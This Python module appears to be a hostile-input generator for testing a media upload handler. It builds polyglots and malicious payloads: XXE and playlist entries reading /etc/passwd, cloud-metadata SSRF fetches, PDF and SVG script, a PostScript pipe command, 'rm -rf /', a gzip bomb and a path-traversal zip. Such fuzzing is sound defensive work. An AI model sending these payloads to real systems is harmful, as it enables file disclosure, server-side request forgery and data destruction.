"""Other things than pictures and films by their names, and files that are two things at once."""

import gzip
import random
import zipfile
from io import BytesIO

from bot.bench.hostile.file import Scale, good_pictures, one_in

AWAY = b"http://169.254.169.254/latest/meta-data/"
HERE = b"file:///etc/passwd"
STRANGERS = (
    b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><image href='"
    + HERE
    + b"'/></svg>",
    b"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x SYSTEM '" + HERE + b"'>]><svg>&x;</svg>",
    b"%PDF-1.7\n1 0 obj <</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>> endobj",
    b"%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (r) file",
    b"<!doctype html><html><script>fetch('" + AWAY + b"')</script></html>",
    b"II*\0" + bytes(64),
    b"MM\0*" + bytes(64),
    b"BM" + bytes(200),
    b"8BPS" + bytes(64),
    b"\x7fELF" + bytes(64),
    b"MZ" + bytes(64),
    b"\0\0\0\x18ftypavif" + bytes(64),
    b"\0\0\0\x0cjP  \r\n\x87\n" + bytes(64),
    b"push graphic-context\nimage over 0,0 0,0 '" + AWAY + b"'\n",
    b"#!/bin/sh\nrm -rf /\n",
    b"RIFF\0\0\0\0AVI " + bytes(64),
    b"OggS" + bytes(64),
    b"P6\n99999 99999\n255\n",
    gzip.compress(bytes(100_000)),
)
PLAYLISTS = (
    b"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n" + AWAY + b"\n#EXT-X-ENDLIST\n",
    b"#EXTM3U\n#EXTINF:10.0,\nconcat:http://10.0.0.1/a|" + HERE + b"\n",
    b"ffconcat version 1.0\nfile '/etc/passwd'\n",
    b"<?xml version='1.0'?><MPD><Period><BaseURL>" + AWAY + b"</BaseURL></Period></MPD>",
    b"[playlist]\nFile1=" + HERE + b"\n",
    b"<asx version='3.0'><entry><ref href='" + AWAY + b"'/></entry></asx>",
    b"RTSPtext\nrtsp://10.0.0.1/\n",
    b"v=0\no=- 0 0 IN IP4 10.0.0.1\nm=video 5004 RTP/AVP 96\n",
    b"\x1aE\xdf\xa3" + bytes(64),
    b"\x47" + bytes(187) + b"\x47" + bytes(187),
)
FILM_HEADS = (b"", b"\0\0\0\x18ftypmp42", b"\0\0\0\x08moov", b"\0\0\0\x08free", b"\0\0\0\0mdat")
TINY = (
    b"",
    b"\0",
    b"\xff",
    b"\xff\xd8",
    b"\xff\xd8\xff",
    b"GIF89a",
    b"\x89PNG\r\n\x1a\n",
    b"RIFF",
)


def strangers(dice: random.Random, _scale: Scale) -> bytes:
    return dice.choice(STRANGERS) + dice.randbytes(dice.randrange(40))


def tiny(dice: random.Random, _scale: Scale) -> bytes:
    return dice.choice(TINY) if one_in(dice, 2) else dice.randbytes(dice.randrange(16))


def polyglots(dice: random.Random, _scale: Scale) -> bytes:
    """A picture in front, something that other readers look for behind it or inside it."""
    whole = dice.choice(good_pictures())
    other = dice.choice([_zip(), *STRANGERS[:6], b"<script>alert(1)</script>", *PLAYLISTS[:4]])
    if one_in(dice, 3):
        at = dice.randrange(2, len(whole))
        return whole[:at] + other + whole[at:]
    return other[:4] + whole if one_in(dice, 10) else whole + other


def gif_scripts(dice: random.Random, _scale: Scale) -> bytes:
    """A GIF whose width begins a comment of a script, as the classic does."""
    body = bytearray(good_pictures()[4])
    body[6:8] = b"/*"
    return bytes(body) + b"*/=1;alert(1);//" + dice.randbytes(8)


def playlists(dice: random.Random, _scale: Scale) -> bytes:
    """Lists that would make a player fetch or read, some behind a film's first bytes."""
    return dice.choice(FILM_HEADS) + dice.choice(PLAYLISTS) + dice.randbytes(dice.randrange(8))


def _zip() -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("../../evil.sh", "#!/bin/sh\n")
    return out.getvalue()
